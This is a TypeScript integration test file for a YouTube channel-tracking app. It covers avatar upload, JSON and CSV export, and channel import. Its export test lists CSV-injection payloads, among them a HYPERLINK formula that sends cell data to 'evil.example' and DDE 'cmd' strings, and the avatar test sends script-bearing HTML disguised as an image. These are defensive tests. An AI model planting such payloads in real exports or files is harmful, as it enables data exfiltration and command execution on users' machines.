import {
  AVATAR_UNSUPPORTED_FORMAT,
  IMPORT_MAX_CHANNELS,
  IMPORT_SKIP_REASONS,
  paths,
} from '@channel-countdown/contract';
import { importFinished } from './support/imports.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { databases } from './support/databases.js';
import type { TestClient } from './support/client.js';
import { parse } from 'csv-parse/sync';
import { createChannel, createNote, signUp } from './support/factories.js';
import { startTestApp, type TestApp } from './support/harness.js';
import { ANOTHER_CREATOR, FAKE_CREATOR, QUIET_CHANNEL } from './fakes/youtube.js';

const MB = 1024 * 1024;
/** A 1×1 PNG. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const GIF = Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(20)]);

/** Sends bytes as a browser's fetch with a Blob body would, with the client's cookies. */
async function sendFile(
  t: TestApp,
  client: TestClient,
  method: string,
  path: string,
  body: Buffer | string,
  type: string,
) {
  const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const response = await fetch(`${t.url}${path}`, {
    method,
    headers: { 'content-type': type, cookie },
    body,
  });
  const text = await response.text();
  const json = (response.headers.get('content-type') ?? '').includes('json') ? JSON.parse(text) : text;
  return { status: response.status, body: json, headers: response.headers };
}

describe.each(databases)('profile picture, export and import on %s', (kind) => {
  let t: TestApp;
  let n = 0;
  const fresh = async () => {
    n += 1;
    const client = t.client();
    const user = await signUp(client, `mydata_${n}_${kind}`);
    return { client, user };
  };
  beforeAll(async () => {
    t = await startTestApp(kind, { firstAdmin: true });
  });
  afterAll(() => t.close());

  describe('profile picture', () => {
    it('is stored on the server and named on the user, in every session', async () => {
      const { client, user } = await fresh();
      expect((await client.get(paths.user)).body.avatarUrl).toBeNull();
      const saved = await sendFile(t, client, 'PUT', paths.userAvatar, PNG, 'image/png');
      expect(saved.status).toBe(200);
      const url: string = saved.body.avatarUrl;
      expect(url).toMatch(new RegExp(`^/api/user/avatar/${user.id}\\?v=\\d+$`));

      const other = t.client();
      await other.post(paths.login, { username: user.username, password: 'Passw0rd' });
      expect((await other.get(paths.user)).body.avatarUrl).toBe(url);
      const image = await fetch(`${t.url}${url}`, {
        headers: { cookie: [...other.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
      });
      expect(image.status).toBe(200);
      expect(image.headers.get('content-type')).toBe('image/png');
      expect(image.headers.get('x-content-type-options')).toBe('nosniff');
      expect(image.headers.get('cache-control')).toContain('immutable');
      expect(image.headers.get('content-security-policy')).toContain('sandbox');
      expect(Buffer.from(await image.arrayBuffer()).equals(PNG)).toBe(true);
    });

    it('is replaced under a new address, and removed', async () => {
      const { client } = await fresh();
      const first = (await sendFile(t, client, 'PUT', paths.userAvatar, PNG, 'image/png')).body.avatarUrl;
      t.clock.advance(1000);
      const second = await sendFile(t, client, 'PUT', paths.userAvatar, GIF, 'image/gif');
      expect(second.body.avatarUrl).not.toBe(first);
      expect((await client.get(second.body.avatarUrl)).headers.get('content-type')).toBe('image/gif');
      const removed = await client.delete(paths.userAvatar);
      expect(removed.body.avatarUrl).toBeNull();
      expect((await client.get(second.body.avatarUrl)).status).toBe(404);
    });

    it.each([
      [
        'a type that is not an accepted image',
        'application/pdf',
        Buffer.from('%PDF-1.4'),
        AVATAR_UNSUPPORTED_FORMAT,
      ],
      [
        'a page sent as an image',
        'image/png',
        Buffer.from('<html><script>alert(1)</script></html>'),
        AVATAR_UNSUPPORTED_FORMAT,
      ],
      ['an empty file', 'image/png', Buffer.alloc(0), AVATAR_UNSUPPORTED_FORMAT],
      [
        'an SVG over 2 MB',
        'image/svg+xml',
        Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${' '.repeat(2 * MB)}</svg>`),
        'Please select a SVG image smaller than 2MB.',
      ],
      [
        'a PNG over 10 MB',
        'image/png',
        Buffer.concat([PNG, Buffer.alloc(10 * MB)]),
        'Please select a PNG image smaller than 10MB.',
      ],
    ])('refuses %s with 400 {message}, keeping the picture', async (_name, type, body, message) => {
      const { client } = await fresh();
      const kept = (await sendFile(t, client, 'PUT', paths.userAvatar, PNG, 'image/png')).body.avatarUrl;
      const refused = await sendFile(t, client, 'PUT', paths.userAvatar, body, type);
      expect(refused.status).toBe(400);
      expect(refused.body).toEqual({ message });
      expect((await client.get(paths.user)).body.avatarUrl).toBe(kept);
    });

    it('refuses a body over the largest limit before reading it (413)', async () => {
      const { client } = await fresh();
      const refused = await sendFile(
        t,
        client,
        'PUT',
        paths.userAvatar,
        Buffer.concat([GIF, Buffer.alloc(20 * MB)]),
        'image/gif',
      );
      expect(refused.status).toBe(413);
      expect(refused.body.message).toBeTruthy();
    });

    it("cannot be changed by another user; the visitor's calls are 401", async () => {
      const { client: owner } = await fresh();
      const url = (await sendFile(t, owner, 'PUT', paths.userAvatar, PNG, 'image/png')).body.avatarUrl;
      const { client: other } = await fresh();
      // Another user's PUT and DELETE act on their own account only: the owner's picture stays.
      await sendFile(t, other, 'PUT', paths.userAvatar, GIF, 'image/gif');
      await other.delete(paths.userAvatar);
      expect((await owner.get(paths.user)).body.avatarUrl).toBe(url);
      expect((await owner.get(url)).headers.get('content-type')).toBe('image/png');
      expect((await sendFile(t, t.client(), 'PUT', paths.userAvatar, PNG, 'image/png')).status).toBe(401);
      expect((await t.client().get(url)).status).toBe(401);
    });
  });

  describe('export', () => {
    it('gives everything the user has as a JSON attachment, and nothing of anyone else', async () => {
      const { client, user } = await fresh();
      const channel = (await client.post(paths.channels, { channelId: FAKE_CREATOR.id })).body;
      await createNote(t.db, channel.id, t.clock.now(), 'First, "quoted" note');
      await client.request('PUT', paths.settings, {
        ...(await client.get(paths.settings)).body,
        appearance: { theme: 'dark' },
      });
      const alert = await client.request('PUT', paths.channelMilestones(channel.id), { alert: 900_000_000 });
      expect(alert.status).toBe(200);
      const { client: other } = await fresh();
      const theirs = (await other.post(paths.channels, { channelId: ANOTHER_CREATOR.id })).body;
      await other.request('PUT', paths.channelMilestones(theirs.id), { alert: 800_000_000 });

      const response = await client.get(paths.userExport);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-disposition')).toMatch(
        /^attachment; filename="channel-countdown-export-2026-11-01\.json"/,
      );
      const data = response.body;
      expect(data.profile).toMatchObject({
        id: user.id,
        username: user.username,
        email: `${user.username}@example.com`,
      });
      expect(data.settings.appearance.theme).toBe('dark');
      expect(data.channels.map((c: { channelId: string }) => c.channelId)).toEqual([FAKE_CREATOR.id]);
      expect(data.channels[0].notes[0].content).toBe('First, "quoted" note');
      expect(data.cycles).toHaveLength(1);
      expect(Object.keys(data.history)).toEqual([FAKE_CREATOR.id]);
      expect(data.groups).toEqual([]);
      expect(data.milestoneAlerts).toEqual([
        {
          channelId: FAKE_CREATOR.id,
          milestone: 900_000_000,
          setAt: t.clock.now().toISOString(),
          reachedAt: null,
        },
      ]);
    });

    it("gives the user's groups with their channels, in the JSON file and the channels table", async () => {
      const { client } = await fresh();
      const channel = (await client.post(paths.channels, { channelId: FAKE_CREATOR.id })).body;
      const gaming = (await client.post(paths.groups, { name: 'Gaming', color: 'teal' })).body;
      const later = (await client.post(paths.groups, { name: 'Watch later', color: 'pink' })).body;
      await client.post(paths.groups, { name: 'Empty', color: 'slate' });
      await client.request('PUT', paths.channelGroups(channel.id), { groupIds: [gaming.id, later.id] });

      const data = (await client.get(paths.userExport)).body;
      expect(data.groups).toEqual([
        { name: 'Empty', color: 'slate', channels: [] },
        { name: 'Gaming', color: 'teal', channels: [FAKE_CREATOR.id] },
        { name: 'Watch later', color: 'pink', channels: [FAKE_CREATOR.id] },
      ]);
      const table = await client.get(`${paths.userExport}?format=csv&what=channels`);
      const [row] = parse(table.body, { columns: true }) as Record<string, string>[];
      expect(row!.Groups).toBe('Gaming\nWatch later');
      expect(row!['Group Colors']).toBe('teal\npink');
    });

    it('gives the channels and the notes as CSV tables', async () => {
      const { client } = await fresh();
      const channel = (await client.post(paths.channels, { channelId: FAKE_CREATOR.id })).body;
      await createNote(t.db, channel.id, t.clock.now(), 'Line one,\nline "two"');
      const channels = await client.get(`${paths.userExport}?format=csv&what=channels`);
      expect(channels.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(channels.headers.get('content-disposition')).toContain(
        'channel-countdown-channels-2026-11-01.csv',
      );
      expect(channels.body.split('\n')[0]).toBe(
        '"Channel Id","Channel Url","Channel Title","Subscribers","Videos","Views","Connected At","Cycle Start","Cycle End","Cycle Paused","Cycles Completed","Groups","Group Colors"',
      );
      expect(channels.body).toContain(
        `"${FAKE_CREATOR.id}","https://www.youtube.com/channel/${FAKE_CREATOR.id}","Fake Creator",`,
      );
      const notes = await client.get(`${paths.userExport}?format=csv&what=notes`);
      expect(notes.body).toContain('"Line one,\nline ""two"""');
    });

    it('writes no cell a spreadsheet would run as a formula (OWASP CSV injection)', async () => {
      const { client, user } = await fresh();
      const formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        '-2+3',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '\t=1+1',
        '\r=1+1',
      ];
      const channel = await createChannel(t.db, user.id, t.clock.now(), { channelName: formulas[0] });
      for (const formula of formulas) await createNote(t.db, channel.id, t.clock.now(), formula);
      await createNote(t.db, channel.id, t.clock.now(), 'An ordinary note, "with" a quote');

      const channels = await client.get(`${paths.userExport}?format=csv&what=channels`);
      const [channelRow] = parse(channels.body, { columns: true }) as Record<string, string>[];
      expect(channelRow!['Channel Title']).toBe(`'${formulas[0]}`);

      const notes = await client.get(`${paths.userExport}?format=csv&what=notes`);
      const rows = parse(notes.body, { columns: true }) as Record<string, string>[];
      expect(rows.map((row) => row.Note).sort()).toEqual(
        [...formulas.map((formula) => `'${formula}`), 'An ordinary note, "with" a quote'].sort(),
      );
      expect(rows.every((row) => row['Channel Title'] === `'${formulas[0]}`)).toBe(true);
      // Every cell is quoted, so no cell can start a line of its own with a formula.
      for (const line of notes.body.trim().split(/\r?\n(?=")/)) expect(line.startsWith('"')).toBe(true);
    });

    it('refuses an unknown format with 400, and visitors with 401', async () => {
      const { client } = await fresh();
      expect((await client.get(`${paths.userExport}?format=xml`)).status).toBe(400);
      expect((await client.get(`${paths.userExport}?format=csv&what=passwords`)).body.message).toContain(
        'what',
      );
      expect((await t.client().get(paths.userExport)).status).toBe(401);
    });
  });

  describe('import', () => {
    const takeout = [
      'Channel Id,Channel Url,Channel Title',
      `${FAKE_CREATOR.id},http://www.youtube.com/channel/${FAKE_CREATOR.id},${FAKE_CREATOR.title}`,
      `${ANOTHER_CREATOR.id},http://www.youtube.com/channel/${ANOTHER_CREATOR.id},"${ANOTHER_CREATOR.title}"`,
      `${ANOTHER_CREATOR.id},http://www.youtube.com/channel/${ANOTHER_CREATOR.id},"${ANOTHER_CREATOR.title}"`,
      `UCDoesNotExistAnywhere00,http://www.youtube.com/channel/UCDoesNotExistAnywhere00,Gone`,
      '',
    ].join('\r\n');

    it('previews a Takeout file, skipping tracked and repeated channels, then connects the rest', async () => {
      const { client } = await fresh();
      await client.post(paths.channels, { channelId: FAKE_CREATOR.id });
      const preview = await sendFile(t, client, 'POST', paths.channelsImportPreview, takeout, 'text/csv');
      expect(preview.status).toBe(200);
      expect(preview.body.format).toBe('takeout');
      expect(
        preview.body.items.map((i: { line: number; status: string; reason: string | null }) => [
          i.line,
          i.status,
          i.reason,
        ]),
      ).toEqual([
        [2, 'skipped', IMPORT_SKIP_REASONS.alreadyTracked],
        [3, 'new', null],
        [4, 'skipped', IMPORT_SKIP_REASONS.duplicateInFile],
        [5, 'new', null],
      ]);
      // The preview connected nothing.
      expect((await client.get(paths.channels)).body).toHaveLength(1);

      const inputs = preview.body.items
        .filter((i: { status: string }) => i.status === 'new')
        .map((i: { input: string }) => i.input);
      const started = await client.post(paths.channelsImport, {
        inputs: [...inputs, QUIET_CHANNEL.handle, FAKE_CREATOR.id],
      });
      expect(started.status).toBe(202);
      const imported = await importFinished(client, started.body.id);
      expect(imported.results.map((r: { status: string }) => r.status)).toEqual([
        'added',
        'failed',
        'added',
        'skipped',
      ]);
      expect(imported.results[1]!.message).toBeTruthy();
      expect(imported.results[3]!.message).toBe(IMPORT_SKIP_REASONS.alreadyTracked);
      expect((await client.get(paths.channels)).body).toHaveLength(3);
    });

    it('knows a tracked channel named by its handle, in any letter case, as already tracked', async () => {
      const { client } = await fresh();
      await client.post(paths.channels, { channelId: FAKE_CREATOR.id });
      const preview = await sendFile(
        t,
        client,
        'POST',
        paths.channelsImportPreview,
        `${FAKE_CREATOR.handle.toUpperCase()}\nhttps://www.youtube.com/${FAKE_CREATOR.handle}\n${ANOTHER_CREATOR.handle}\n`,
        'application/octet-stream',
      );
      expect(
        preview.body.items.map((i: { status: string; reason: string | null }) => [i.status, i.reason]),
      ).toEqual([
        ['skipped', IMPORT_SKIP_REASONS.alreadyTracked],
        ['skipped', IMPORT_SKIP_REASONS.duplicateInFile],
        ['new', null],
      ]);
    });

    it("knows a link to a stored video of a tracked channel as already tracked, and no other user's", async () => {
      const { client } = await fresh();
      const connected = await client.post(paths.channels, { channelId: FAKE_CREATOR.id });
      expect(connected.status).toBe(201);
      const [ownVideo] = FAKE_CREATOR.uploads;
      const [otherVideo] = ANOTHER_CREATOR.uploads;
      // The feed poll stored the tracked channel's upload (the other channel's is stored too: seen for someone else).
      const stored = (channelId: string, videoId: string) => ({
        youtube_channel_id: channelId,
        video_id: videoId,
        title: videoId,
        published_at: t.clock.now(),
        seen_at: t.clock.now(),
      });
      await t
        .db('channel_uploads')
        .insert([
          stored(FAKE_CREATOR.id, ownVideo!.videoId),
          stored(ANOTHER_CREATOR.id, otherVideo!.videoId),
        ]);
      const file = `https://youtu.be/${ownVideo!.videoId}\nhttps://www.youtube.com/watch?v=${otherVideo!.videoId}\n`;
      const preview = await sendFile(
        t,
        client,
        'POST',
        paths.channelsImportPreview,
        file,
        'application/octet-stream',
      );
      expect(
        preview.body.items.map((i: { status: string; reason: string | null }) => [i.status, i.reason]),
      ).toEqual([
        ['skipped', IMPORT_SKIP_REASONS.alreadyTracked],
        ['new', null],
      ]);
      // Another user, who tracks nothing, sees both as new: a stored video is known through one's own channels.
      const { client: other } = await fresh();
      const theirs = await sendFile(
        t,
        other,
        'POST',
        paths.channelsImportPreview,
        file,
        'application/octet-stream',
      );
      expect(theirs.body.items.map((i: { status: string }) => i.status)).toEqual(['new', 'new']);
    });

    it('previews OPML and plain lists; refuses unreadable files and oversize imports with 400', async () => {
      const { client } = await fresh();
      const opml = `<?xml version="1.0"?><opml version="1.1"><body><outline text="${FAKE_CREATOR.title}" type="rss" xmlUrl="https://www.youtube.com/feeds/videos.xml?channel_id=${FAKE_CREATOR.id}"/></body></opml>`;
      const fromOpml = await sendFile(t, client, 'POST', paths.channelsImportPreview, opml, 'text/x-opml');
      expect(fromOpml.body.items).toEqual([
        { line: 1, input: FAKE_CREATOR.id, title: FAKE_CREATOR.title, status: 'new', reason: null },
      ]);
      const fromLines = await sendFile(
        t,
        client,
        'POST',
        paths.channelsImportPreview,
        `${FAKE_CREATOR.handle}\nhttps://youtube.com/playlist?list=x\n`,
        'application/octet-stream',
      );
      expect(fromLines.body.format).toBe('lines');
      expect(fromLines.body.items.map((i: { status: string }) => i.status)).toEqual(['new', 'skipped']);

      const broken = await sendFile(
        t,
        client,
        'POST',
        paths.channelsImportPreview,
        '<opml><body><outline',
        'text/x-opml',
      );
      expect(broken.status).toBe(400);
      const binary = await sendFile(
        t,
        client,
        'POST',
        paths.channelsImportPreview,
        Buffer.from([0xff, 0xfe, 0x00, 0xd8]),
        'application/octet-stream',
      );
      expect(binary.status).toBe(400);
      const tooMany = await client.post(paths.channelsImport, {
        inputs: Array.from({ length: IMPORT_MAX_CHANNELS + 1 }, () => FAKE_CREATOR.id),
      });
      expect(tooMany.status).toBe(400);
      // A type a cross-site form can send is refused as for any other call (no preflight protects it).
      expect(
        (await sendFile(t, client, 'POST', paths.channelsImportPreview, FAKE_CREATOR.id, 'text/plain'))
          .status,
      ).toBe(415);
      expect(
        (await sendFile(t, client, 'PUT', paths.userAvatar, PNG, 'multipart/form-data; boundary=x')).status,
      ).toBe(415);
      expect(
        (await sendFile(t, t.client(), 'POST', paths.channelsImportPreview, 'x', 'text/csv')).status,
      ).toBe(401);
      expect((await t.client().post(paths.channelsImport, { inputs: ['x'] })).status).toBe(401);
    });
  });
});
